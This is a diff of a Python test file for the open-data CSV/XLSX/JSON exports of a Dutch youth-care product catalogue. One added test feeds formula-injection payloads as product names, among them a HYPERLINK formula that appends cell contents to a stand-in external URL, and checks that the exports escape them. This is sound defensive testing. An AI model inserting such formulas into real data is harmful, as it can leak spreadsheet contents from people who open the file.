@@ -18,7 +18,7 @@ from conftest import ROOT
 from helpers import PRODUCT, minimal_data, write
 from macros.catalogue.loader import load_catalogue
 from macros.components.opendata import datum_tekst, grootte, open_data
-from macros.exports import KOLOMMEN, ExportBestand, export_files
+from macros.exports import KOLOMMEN, ExportBestand, codetabel_kolommen, export_files
 from macros.site.state import data_date
 from macros.exports.xlsx import ZIP_TIJD
 from macros.model import Product
@@ -76,7 +76,11 @@ def verwacht(cat, p) -> dict:
         "gemeenten": gemeenten, "status": p.status, "editie": (doc.editie or "") if doc else "",
         "geldigheid": (doc.geldigheid or "") if doc else "", "bron_document": p.bron.document, "bron_titel": doc.titel if doc else "",
         "bron_datum": (doc.datum or "") if doc else "", "bron_sectie": p.bron.sectie, "url": SITE + p.url,
+        "bron_url": f"{SITE}{p.regio}/#bron-{p.bron.document.replace('_', '-').replace('.', '-')}",
     }
+
+
+NAAM = {k.kop: k.naam for k in KOLOMMEN}  # the documented header mapping
 
 
 def producten(cat, ids):
@@ -93,9 +97,20 @@ def test_stable_paths(cat, files):
 def test_columns_include_the_required_ones():
     namen = [k.naam for k in KOLOMMEN]
     required = ["regio", "code", "naam", "productgroep", "producttype", "ijw_categorie", "eenheid", "tarief",
-                "tarief_status", "maximale_duur", "maximaal_volume", "gemeenten", "status", "editie",
-                "geldigheid", "bron_document", "bron_sectie", "url"]
+                "tarief_status", "maximale_duur", "maximaal_volume", "gemeenten", "status", "url", "bron_titel",
+                "bron_sectie", "bron_url", "editie", "geldigheid", "bron_document"]
     assert [n for n in namen if n in required] == required and len(set(namen)) == len(namen)
+
+
+def test_headers_are_dutch_and_mapped_to_machine_names():
+    """A spreadsheet user reads 'Maximale duur (getal)', not 'maximale_duur_waarde'; scripts keep the
+    machine names through the mapping."""
+    koppen = [k.kop for k in KOLOMMEN]
+    assert len(set(koppen)) == len(koppen)
+    for kop in koppen:
+        assert "_" not in kop and (kop[0].isupper() or kop.startswith("iJw")), kop
+    assert NAAM["Maximale duur (getal)"] == "maximale_duur_waarde" and NAAM["Bron"] == "bron_titel"
+    assert all(kop != k.naam for k in KOLOMMEN for kop in [k.kop])
 
 
 def lees_csv(data: bytes) -> list[list[str]]:
@@ -106,7 +121,8 @@ def lees_csv(data: bytes) -> list[list[str]]:
 def test_csv_round_trip(cat, files):
     for naam, ids in groepen(cat).items():
         kop, *rijen = lees_csv(files[f"open-data/{naam}.csv"])
-        assert kop == [k.naam for k in KOLOMMEN]
+        assert kop == [k.kop for k in KOLOMMEN]
+        kop = [NAAM[k] for k in kop]
         ps = producten(cat, ids)
         assert len(rijen) == len(ps)
         for rij, p in zip(rijen, ps):
@@ -123,11 +139,14 @@ def test_xlsx_round_trip(cat, files):
     for naam, ids in groepen(cat).items():
         wb = load_workbook(io.BytesIO(files[f"open-data/{naam}.xlsx"]))
         codebladen = [f"Codetabel {cat.regios[r].naam}" for r in ids if r in cat.codetabellen]
-        assert wb.sheetnames == [cat.regios[r].naam for r in ids] + codebladen
+        assert wb.sheetnames == [cat.regios[r].naam for r in ids] + codebladen + ["Toelichting"]
+        toelichting = [list(v) for v in wb["Toelichting"].iter_rows(values_only=True)]
+        assert toelichting == [["Kolom", "Veldnaam", "Betekenis"], *([k.kop, k.naam, k.uitleg] for k in KOLOMMEN)]
         for r in ids:
             ws = wb[cat.regios[r].naam]
             kop, *rijen = [list(v) for v in ws.iter_rows(values_only=True)]
-            assert kop == [k.naam for k in KOLOMMEN]
+            assert kop == [k.kop for k in KOLOMMEN]
+            kop = [NAAM[k] for k in kop]
             assert ws.freeze_panes == "A2"
             assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(kop)).column_letter}{len(rijen) + 1}"
             assert all(8 <= ws.column_dimensions[ws.cell(1, i).column_letter].width <= 60 for i in range(1, len(kop) + 1))
@@ -151,6 +170,9 @@ def test_xlsx_code_table_per_edition(cat, files):
         for naam in ("productenboek", regio_id):
             ws = load_workbook(io.BytesIO(files[f"open-data/{naam}.xlsx"]))[f"Codetabel {cat.regios[regio_id].naam}"]
             kop, *rijen = [list(v) for v in ws.iter_rows(values_only=True)]
+            mapping = dict(codetabel_kolommen(list(tabel.edities)))
+            assert "Omschrijving 2019" in kop and "Vervalt in 2020" in kop and "Wijziging 2019 → 2020" in kop
+            kop = [mapping[k] for k in kop]
             for e in tabel.edities:
                 assert {f"omschrijving_{e}", f"extra_omschrijving_{e}", f"code_{e}", f"vervalt_{e}"} <= set(kop)
             assert ws.freeze_panes == "A2" and ws.auto_filter.ref
@@ -234,7 +256,7 @@ def kleine_cat(tmp_path):
 def test_numbers_are_numbers_and_text_survives(kleine_cat):
     files = export_files(kleine_cat)
     kop, rij, _ = lees_csv(files["open-data/testregio.csv"])
-    gelezen = dict(zip(kop, rij))
+    gelezen = dict(zip([NAAM[k] for k in kop], rij))
     assert gelezen["tarief"] == "1234,56" and gelezen["tarief_status"] == "gepubliceerd"
     assert gelezen["maximale_duur_waarde"] == "12" and gelezen["regio"] == "Súdwest-Fryslân"
     assert gelezen["naam"] == "Specialistische Begeleiding – geïndiceerde cliënt"
@@ -242,6 +264,7 @@ def test_numbers_are_numbers_and_text_survives(kleine_cat):
     assert gelezen["url"] == "../testregio/45f21/"  # without site_url: relative to the file
     ws = load_workbook(io.BytesIO(files["open-data/testregio.xlsx"]))["Súdwest-Fryslân"]
     cel = ws.cell(2, [k.naam for k in KOLOMMEN].index("tarief") + 1)
+    assert ws.cell(1, cel.column).value == "Tarief (euro)"
     assert cel.value == 1234.56 and cel.data_type == "n" and "0.00" in cel.number_format
     doc = json.loads(files["open-data/testregio.json"])
     assert doc["producten"][0]["tarief"] == {"bedrag": 1234.56, "per": "uur", "toelichting": None}
@@ -294,3 +317,48 @@ def test_data_datum_from_git_or_today(tmp_path):
     datum = data_date(ROOT / "data")
     assert datetime.date.fromisoformat(datum) <= datetime.date.today() + datetime.timedelta(days=1)
     assert data_date(tmp_path) == datetime.date.today().isoformat()  # not in git
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_stays_text(tmp_path):
+    """Hostile input: names that Excel or LibreOffice would evaluate when opening the CSV."""
+    data = minimal_data(tmp_path)
+    payloads = ['=HYPERLINK("https://example.invalid/?"&A1;"klik")', "+31 6 1234", "-2+3", "@SUM(1;2)"]
+    for i, naam in enumerate(payloads):
+        write(data / f"products/testregio/4{i}a01.yaml", PRODUCT.replace("45F21", f"4{i}A01")
+              .replace("naam: Specialistische Begeleiding – Individueel", "naam: " + json.dumps(naam)))
+    files = export_files(load_catalogue(data))
+    kop, *rijen = lees_csv(files["open-data/testregio.csv"])
+    namen = [dict(zip([NAAM[k] for k in kop], r))["naam"] for r in rijen]
+    for naam in payloads:
+        assert "'" + naam in namen  # shown as text, apostrophe hidden by the spreadsheet
+    assert not any(n[0] in "=+-@" for n in namen)
+    ws = load_workbook(io.BytesIO(files["open-data/testregio.xlsx"]))["Testregio"]
+    cellen = [c for row in ws.iter_rows(min_row=2) for c in row if c.value in payloads]
+    assert len(cellen) == len(payloads) and all(c.data_type == "s" for c in cellen)
+    doc = json.loads(files["open-data/testregio.json"])
+    assert set(payloads) <= {p["naam"] for p in doc["producten"]}  # JSON keeps the value as it is
+
+
+def test_source_links_point_at_the_sources_on_the_region_page(built_site):
+    """Every product row names its source by title and links to where the site lists that document."""
+    kop, *rijen = lees_csv((built_site / "open-data/productenboek.csv").read_bytes())
+    for rij in rijen:
+        r = dict(zip([NAAM[k] for k in kop], rij))
+        assert r["bron_titel"] and not r["bron_titel"].endswith(".txt"), r["id"]
+        pad, anker = r["bron_url"].removeprefix("../").split("#")
+        html = (built_site / pad / "index.html").read_text(encoding="utf-8")
+        assert f'id="{anker}"' in html and r["bron_document"] in html.split(f'id="{anker}"')[1][:200]
+
+
+def test_build_without_site_url_writes_no_local_address(built_site):
+    """No SITE_URL: relative links, no canonical link, a sitemap of paths; never 127.0.0.1."""
+    for path in built_site.rglob("*"):
+        if path.suffix in {".html", ".xml", ".json", ".csv"}:
+            text = path.read_text(encoding="utf-8-sig")
+            assert "127.0.0.1" not in text and "localhost" not in text, path
+        elif path.suffix == ".xlsx":
+            with zipfile.ZipFile(path) as z:
+                assert not any(b"127.0.0.1" in z.read(n) for n in z.namelist()), path
+    assert 'rel="canonical"' not in (built_site / "index.html").read_text(encoding="utf-8")
+    locs = (built_site / "sitemap.xml").read_text(encoding="utf-8").split("<loc>")[1:]
+    assert len(locs) > 80 and all(loc.startswith("/") for loc in locs)
